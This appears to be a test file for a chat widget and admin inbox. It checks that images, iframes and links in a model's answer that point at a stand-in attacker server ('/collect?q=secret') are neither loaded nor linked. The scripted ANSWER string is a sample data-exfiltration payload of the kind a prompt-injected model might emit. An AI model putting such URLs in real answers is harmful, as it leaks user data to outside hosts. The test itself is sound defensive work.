// A model that answers with pictures, frames and links of a stranger, in the real widget and the real inbox:
// nothing of it is loaded, and no link to the stranger stands there.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, it } from 'node:test';
import { adminOn, hostedOn, stage, visible } from '../lib/browser.mjs';
import { openai, startModels } from '../lib/models.mjs';

let visits = 0;
const evil = http.createServer((_, reply) => {
  visits += 1;
  reply.end();
});
await new Promise((resolve) => evil.listen(0, '127.0.0.1', resolve));
const url = `http://127.0.0.1:${evil.address().port}/collect`;
const models = await startModels();
const ANSWER = `Here you are. ![a](${url}?q=secret) <img src="${url}?x=1"> <iframe src="${url}"></iframe> [click](${url}?d=1) ${url}?e=1 ![b][r]\n\n[r]: ${url}?r=1\n\nThat is all.`;
models.script = () => ({ parts: openai(ANSWER.match(/[^]{1,4}/gu)) });
const { server, browser } = await stage({ env: { CHATPAD_AI_BASE_URL: models.url, CHATPAD_AI_MODEL: 'stand-in', CHATPAD_AI_ALLOW_PRIVATE: '1' } });
after(async () => {
  await models.stop();
  evil.close();
});

it('a picture, a frame and a link of a stranger are words in the widget and in the inbox', async () => {
  const agentId = server.env.CHATPAD_DEMO_AGENT_ID;
  await server.sql`update public.agents set model = 'auto' where id = ${agentId}`;
  const guest = await browser.open(server);
  const chat = hostedOn(guest.page);
  await guest.page.goto(`${server.url}/chat/${agentId}`);
  await chat.ready();
  await chat.ask('Show me everything', 'That is all.');
  const owner = await browser.open(server);
  const admin = adminOn(owner.page);
  await admin.signIn(server);
  const [{ conversation_id: id }] = await server.sql`select conversation_id from public.messages where content = 'Show me everything'`;
  await admin.openConversation(server, id);
  await visible(owner.page.getByText('That is all.'));
  await visible(owner.page.getByRole('list', { name: 'Safety' }).getByText('Image removed'));
  for (const { page } of [guest, owner]) {
    for (const frame of page.frames()) {
      const there = await frame.evaluate(() => [...document.querySelectorAll('img[src], iframe[src], a[href]')].map((node) => node.src || node.href));
      assert.deepEqual(there.filter((address) => address.includes('/collect')), []);
    }
  }
  guest.assertClean([]);
  owner.assertClean([]);
  assert.equal(visits, 0);
  await Promise.all([guest.close(), owner.close()]);
});
